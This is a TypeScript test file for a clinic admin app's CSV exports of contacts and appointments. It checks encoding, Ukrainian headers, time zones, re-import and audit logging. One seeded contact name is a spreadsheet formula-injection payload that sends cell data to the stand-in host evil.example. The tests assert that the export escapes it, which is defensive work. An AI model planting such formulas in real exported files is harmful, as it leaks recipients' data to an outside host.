import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SYSTEM } from '../contacts/timeline.js';
import { bookAsStaff } from '../scheduling/booking-service.js';
import { aSpecialist } from '../test/builders.js';
import { startTestApp, type TestApp } from '../test/test-app.js';
import { upsertContacts } from '../contacts/contact-upsert.js';

// Monday 7 December 2026, 08:00 in Kyiv.
const MONDAY_8AM = '2026-12-07T08:00:00+02:00';
const BOM = '\uFEFF';

describe('a manager takes the contacts and the appointments out to a spreadsheet', () => {
  let t: TestApp;
  let manager: string;
  let mischiefId: string;

  const download = (url: string) => t.app.inject({ url, headers: { cookie: manager } });
  const table = (text: string): string[][] => parse(text.slice(BOM.length), { relax_column_count: false }) as string[][];

  beforeAll(async () => {
    t = await startTestApp({ now: MONDAY_8AM });
    manager = await t.staffCookie('manager');
    const specialist = await aSpecialist(t.handle.db, { name: 'Dr. Koval' });
    const [mischief, olena] = await upsertContacts(t.deps, {
      rows: [
        { email: 'mischief@example.com', name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', phone: '+380 67 000 0000', tags: ['@risk'] },
        { email: 'olena@example.com', name: 'Олена Петренко', phone: '050 123 45 67', locale: 'uk', tags: ['vip', 'коліно'] },
      ],
      actor: SYSTEM,
      source: 'import',
      now: t.clock.now(),
    });
    mischiefId = mischief!.id;
    await bookAsStaff(t.deps, { specialistId: specialist.id, startsAt: new Date('2026-12-08T10:00:00+02:00'), contactId: olena!.id, notes: '-2 dioptres, +1 on the left' }, SYSTEM, 'staff', t.clock.now());
    // After the clocks go forward at the end of March, Kyiv is UTC+3.
    await bookAsStaff(t.deps, { specialistId: specialist.id, startsAt: new Date('2027-04-05T09:30:00+03:00'), contactId: mischief!.id }, SYSTEM, 'staff', t.clock.now());
  });
  afterAll(async () => t?.close());

  it('downloads the contacts as a file Excel opens in Ukrainian, with a name and no formula left to run', async () => {
    const response = await download('/api/admin/contacts/export.csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="contacts-2026-12-07.csv"');
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(response.body).toContain('\r\n');

    const [header, ...rows] = table(response.body);
    expect(header).toEqual(['id', 'Ім’я', 'E-mail', 'Телефон', 'Мова', 'Мітки', 'Етап', 'Дата народження', 'Нотатки', 'Створено', 'Змінено']);
    expect(rows).toHaveLength(2);
    const mischief = rows.find((row) => row[0] === mischiefId)!;
    expect(mischief[1]).toBe('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")');
    expect(mischief[3]).toBe("'+380 67 000 0000");
    expect(mischief[5]).toBe("'@risk");
    const olena = rows.find((row) => row[2] === 'olena@example.com')!;
    expect(olena.slice(1, 7)).toEqual(['Олена Петренко', 'olena@example.com', '050 123 45 67', 'uk', 'vip; коліно', 'клієнт']);
    expect(olena[9]).toBe('2026-12-07T08:00:00+02:00');
  });

  it('imports its own export back without changing anyone', async () => {
    const exported = (await download('/api/admin/contacts/export.csv')).body;
    const imported = await t.app.inject({ method: 'POST', url: '/api/admin/contacts/import', headers: { cookie: manager, 'content-type': 'text/csv' }, payload: exported });
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json()).toEqual({ rows: 2, created: 0, updated: 0, unchanged: 2 });
  });

  it('downloads the appointments in the clinic’s time, with the offset of each date, filtered as the list is', async () => {
    const response = await download('/api/admin/bookings/export.csv?lang=en');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toBe('attachment; filename="appointments-2026-12-07.csv"');
    const [header, ...rows] = table(response.body);
    expect(header).toEqual(['id', 'Date', 'Start', 'End', 'Starts at (with offset)', 'Ends at (with offset)', 'Status', 'Specialist', 'Client', 'E-mail', 'Phone', 'Notes', 'Source', 'Language', 'Created']);
    expect(rows.map((row) => row.slice(1, 9))).toEqual([
      ['2026-12-08', '10:00', '10:30', '2026-12-08T10:00:00+02:00', '2026-12-08T10:30:00+02:00', 'booked', 'Dr. Koval', 'Олена Петренко'],
      ['2027-04-05', '09:30', '10:00', '2027-04-05T09:30:00+03:00', '2027-04-05T10:00:00+03:00', 'booked', 'Dr. Koval', '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'],
    ]);
    expect(rows[0]![11]).toBe("'-2 dioptres, +1 on the left");

    const april = table((await download('/api/admin/bookings/export.csv?from=2027-04-01&to=2027-04-30')).body);
    expect(april).toHaveLength(2);
    expect(april[0]![6]).toBe('Статус');
    const bad = await download('/api/admin/bookings/export.csv?status=lost');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.fields).toEqual({ status: expect.stringContaining('"lost" is not a status') });
  });

  it('puts each export on the audit record as an export', async () => {
    await download('/api/admin/contacts/export.csv?q=olena');
    await t.app.close(); // audit entries are written once the response is out; closing waits for them
    const actions = await t.handle.db.selectFrom('audit_log').select(['action', 'record_type']).where('action', 'like', '%.export').execute();
    expect(actions).toContainEqual({ action: 'contacts.export', record_type: 'contact' });
    expect(actions).toContainEqual({ action: 'bookings.export', record_type: 'booking' });
  });
});
